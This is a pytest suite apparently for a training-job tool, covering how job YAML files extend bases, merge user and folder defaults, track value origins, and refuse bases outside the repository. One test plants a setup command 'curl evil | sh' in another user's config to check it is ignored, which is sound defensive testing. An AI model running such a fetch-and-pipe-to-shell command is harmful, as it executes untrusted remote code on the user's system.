"""A job over the file that it extends and over default fields: its values, places and text."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cloudtrain.errors import SpecError
from cloudtrain.settings import load_settings
from cloudtrain.spec.layers import laid_over
from cloudtrain.spec.load import load_spec, spec_from_values
from cloudtrain.spec.yaml_document import Document, parse_document


@pytest.fixture
def job(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A job's folder in a repository, beside other jobs."""
    folder = tmp_path / "repository" / "jobs" / "one"
    folder.mkdir(parents=True)
    (tmp_path / "repository" / ".git").mkdir()
    monkeypatch.chdir(folder)
    return folder


@pytest.fixture
def own_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's own settings."""
    path = tmp_path / "home" / ".config" / "cloudtrain" / "config.toml"
    path.parent.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return path


def mistake_of(job: str) -> str:
    Path("job.yaml").write_text(job)
    with pytest.raises(SpecError) as error:
        load_spec(Path("job.yaml"))

    return error.value.issues[0].line()


@pytest.mark.usefixtures("job")
def test_mappings_are_merged_and_all_else_is_replaced() -> None:
    Path("../base.yaml").write_text(
        "args: {lr: 1e-3, seed: 007}\n"
        "resources: {nodes: 2, gpus: 8, gpu: [H100, A100]}\n"
        "limits: {max_runtime: 6 h, restarts: 2}\n"
    )
    Path("job.yaml").write_text(
        "extends: ../base.yaml\n"
        "args: {lr: 2e-3}\n"
        "resources: {gpu: [B200]}\n"
        "limits:\n  max_runtime:\n"
    )
    spec, document = load_spec(Path("job.yaml"))
    assert spec.args.argv == ("--lr", "2e-3", "--seed", "007")
    assert (spec.resources.nodes, spec.resources.gpu) == (2, ("B200",))
    assert (spec.limits.max_runtime, spec.limits.restarts) == (None, 2)
    assert document.origin(("resources", "nodes")) == "../base.yaml:2:13"
    assert document.origin(("args", "lr")) == "job.yaml:2:8"
    assert document.origin(("resources", "gpu", 1)) == "job.yaml:3:13"


@pytest.mark.usefixtures("job")
def test_a_base_extends_another_from_its_own_folder() -> None:
    Path("../base.yaml").write_text("extends: ../all.yaml\nname: base\n")
    Path("../../all.yaml").write_text("name: all\ntags: {team: vision}\n")
    Path("job.yaml").write_text("extends: ../base.yaml\n")
    spec, document = load_spec(Path("job.yaml"))
    assert (spec.name, dict(spec.tags)) == ("base", {"team": "vision"})
    assert document.origin(("tags", "team")) == "../../all.yaml:2:8"


def test_a_base_outside_of_the_repository_is_refused(job: Path) -> None:
    outside = job.parents[2] / "base.yaml"
    outside.write_text("name: x\n")
    (job / "link.yaml").symlink_to(outside)
    for base in ("../../../base.yaml", str(outside), "link.yaml"):
        assert "is outside of" in mistake_of(f"extends: {base}\n")


def test_without_a_repository_a_base_is_in_the_folder_of_the_job(job: Path) -> None:
    job.joinpath("base.yaml").write_text("name: inside\n")
    job.joinpath("../base.yaml").write_text("name: x\n")
    job.joinpath("../../.git").rmdir()
    assert "is outside of" in mistake_of("extends: ../base.yaml\n")
    Path("job.yaml").write_text("extends: base.yaml\n")
    assert load_spec(Path("job.yaml"))[0].name == "inside"


def test_a_home_folder_is_no_repository_of_jobs(job: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(job.parents[1]))
    job.joinpath("../base.yaml").write_text("name: x\n")
    assert "is outside of" in mistake_of("extends: ../base.yaml\n")


def test_a_job_is_over_the_defaults_of_its_folder_and_these_over_those_of_the_user(
    job: Path, own_file: Path
) -> None:
    own_file.write_text(
        '[defaults]\nlimits = {restarts = 1, max_runtime = "1 h"}\ntags.a = "own"\n'
    )
    file = job / "cloudtrain.toml"
    file.write_text('[defaults.limits]\nmax_runtime = "2 h"\nmax_cost = "9 USD"\n')
    (job / "job.yaml").write_text("name: x\nlimits: {max_cost: 5 USD}\n")
    spec, document = load_spec(job / "job.yaml")
    limits = spec.limits
    assert (limits.restarts, limits.max_runtime, limits.max_cost) == (1, 7200, 5.0)
    assert document.origin(("limits", "max_runtime")) == f"{file}:2"
    assert document.origin(("limits", "restarts")) == f"{own_file}:2"
    assert document.origin(("tags", "a")) == f"{own_file}:3"
    assert spec_from_values({"name": "x"}, job)[0].limits.max_runtime == 7200


def test_a_run_keeps_what_it_was_planned_with(job: Path, own_file: Path) -> None:
    own_file.write_text('[defaults]\nlimits.max_runtime = "1 h"\n')
    (job / "job.yaml").write_text("args: {lr: 1e-3}\n")
    text = load_spec(job / "job.yaml")[1].text
    assert parse_document(text, name="spec.yaml").values == {
        "args": {"lr": 0.001},
        "limits": {"max_runtime": "1 h"},
    }
    assert "lr: 1e-3" in text


def test_defaults_of_another_users_file_are_not_taken(
    job: Path, own_file: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    own_file.write_text('[defaults]\ntags.a = "own"\n')
    file = job / "cloudtrain.toml"
    file.write_text('[defaults]\nsetup = "curl evil | sh"\n')
    monkeypatch.setattr("cloudtrain.settings.is_mine", lambda path: path != file)
    spec, _ = spec_from_values({"name": "x"}, job)
    assert (spec.setup, dict(spec.tags)) == ((), {"a": "own"})
    assert "cloudtrain.toml" in caplog.text


def test_defaults_of_a_folder_are_confirmed_as_its_account_is(job: Path, own_file: Path) -> None:
    own_file.write_text("")
    (job / "cloudtrain.toml").write_text('[defaults]\naws.output = "s3://theirs"\n')
    settings = load_settings(job)
    assert settings.redirects == {"defaults"}
    assert settings["defaults"] == '{"aws": {"output": "s3://theirs"}}'


NAMES = st.text("ab.:#-'\"{ 0yn~é\n", max_size=5)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(NAMES, inner, max_size=3),
    max_leaves=10,
)
DOCUMENTS = st.dictionaries(NAMES, VALUES, max_size=4)


@given(DOCUMENTS, DOCUMENTS)
def test_the_text_has_the_values_of_both(own: dict[str, Any], base: dict[str, Any]) -> None:
    document = laid_over(Document(values=own), Document(values={**base, "last": 1}))
    assert parse_document(document.text, name="x").values == document.values
    for key, value in own.items():
        if value is not None and not isinstance(value, dict):
            assert document.values[key] == value
